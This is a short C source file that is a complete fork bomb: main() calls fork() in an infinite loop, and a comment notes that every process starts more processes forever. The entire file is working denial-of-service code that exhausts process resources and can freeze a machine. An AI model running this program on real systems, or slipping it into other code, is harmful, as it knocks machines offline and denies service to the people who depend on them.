// Every process starts more processes, for ever.
#include <unistd.h>

int main(void) {
  for (;;) fork();
}
